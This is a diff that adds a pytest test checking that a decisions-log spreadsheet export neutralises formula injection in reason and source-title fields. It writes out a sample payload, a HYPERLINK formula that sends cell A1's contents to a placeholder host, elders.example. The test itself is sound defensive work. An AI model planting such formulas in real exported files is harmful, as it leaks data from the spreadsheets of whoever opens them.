@@ -87,6 +87,18 @@ def test_the_log_holds_what_was_decided_about_the_register_itself(browser) -> No
     ]
 
 
+@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r"])
+def test_what_a_spreadsheet_would_run_is_text_in_the_file_of_decisions(browser, begins: str) -> None:
+    """The reason of a person, or a title of a source: a spreadsheet takes such a cell for a formula."""
+    from monitor.pipeline.accounting import cells, decision_views
+
+    browser.decide(1, "reject", reason="dubbel")
+    (view,) = decision_views(browser.client.app.state.site.monitor)
+    formula = f'{begins}HYPERLINK("https://elders.example/?"&A1)'
+    assert formula not in cells({**view, "title_before": formula, "reason": formula})
+    assert cells({**view, "reason": formula}).count(f"'{formula}") == 1
+
+
 def test_no_decision_about_the_register_is_changed_afterwards(elsewhere: Monitor) -> None:
     auditing.set_retired(elsewhere, 4, retired=True, by="Anna", reason="achterhaald")
     for statement in ("UPDATE register_decision SET reason = 'x'", "DELETE FROM register_decision"):
